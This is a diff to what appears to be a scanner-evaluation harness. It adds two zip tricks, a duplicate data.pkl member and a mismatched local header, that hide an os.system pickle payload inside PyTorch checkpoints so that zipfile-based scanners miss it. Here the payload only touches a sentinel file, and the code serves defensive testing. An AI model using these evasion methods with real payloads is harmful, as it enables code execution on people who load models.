@@ -24,6 +24,12 @@ Attack classes, simplest first:
 - ``numpy_object_array``: a numpy array of dtype object holding a payload.
 - ``torchscript_archive``: a ``torch.jit.save`` archive whose ``__setstate__`` (TorchScript)
   creates the sentinel with ``torch.from_file(..., shared=True)``.
+- ``zip_duplicate_member``: two records named ``data.pkl``, a benign one first and the
+  ``reduce_os_system`` payload last; torch, like Python's ``zipfile``, reads the last, while a tool
+  that reads the archive front to back meets the benign one first.
+- ``zip_header_mismatch``: the ``reduce_os_system`` payload in a ``data.pkl`` record whose
+  local header names another file than the central directory does; torch reads the record,
+  Python's ``zipfile`` (and so a scanner built on it) refuses the archive as damaged.
 """
 
 from __future__ import annotations
@@ -275,6 +281,42 @@ def _torchscript_archive(sentinel: str) -> bytes:
     return buffer.getvalue()
 
 
+def _data_pkl(data: bytes) -> zipfile.ZipInfo:
+    return next(
+        info for info in zipfile.ZipFile(io.BytesIO(data)).infolist()
+        if info.filename.endswith("/data.pkl")
+    )
+
+
+def _zip_hostile(sentinel: str) -> bytes:
+    """The payload the zip tricks hide: one every scanner compared here flags when it is
+    not hidden (``reduce_os_system``)."""
+    return _saved(_checkpoint(PickledCall(os.system, f"touch '{sentinel}'")))
+
+
+def _zip_duplicate_member(sentinel: str) -> bytes:
+    hostile = _zip_hostile(sentinel)
+    benign = _saved(_checkpoint("model"))
+    hostile_pickle = zipfile.ZipFile(io.BytesIO(hostile)).read(_data_pkl(hostile))
+    source = zipfile.ZipFile(io.BytesIO(benign))
+    out = io.BytesIO()
+    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as target:
+        warnings.simplefilter("ignore")  # zipfile warns of the duplicate name
+        for info in source.infolist():
+            target.writestr(info.filename, source.read(info.filename))
+            if info.filename.endswith("/data.pkl"):
+                target.writestr(info.filename, hostile_pickle)
+    return out.getvalue()
+
+
+def _zip_header_mismatch(sentinel: str) -> bytes:
+    data = _zip_hostile(sentinel)
+    name_start = _data_pkl(data).header_offset + 30  # the local header's fixed part
+    name_length = struct.unpack("<H", data[name_start - 4 : name_start - 2])[0]
+    name_end = name_start + name_length
+    return data[: name_end - 1] + b"X" + data[name_end:]  # .../data.pkl -> .../data.pkX
+
+
 def _reduce(build):
     return lambda sentinel: _saved(_checkpoint(build(sentinel)))
 
@@ -300,6 +342,8 @@ _ATTACKS = {
     "nested_torch_load": _nested_torch_load,
     "numpy_object_array": _numpy_object_array,
     "torchscript_archive": _torchscript_archive,
+    "zip_duplicate_member": _zip_duplicate_member,
+    "zip_header_mismatch": _zip_header_mismatch,
 }
 ATTACK_CLASSES = tuple(_ATTACKS)
 
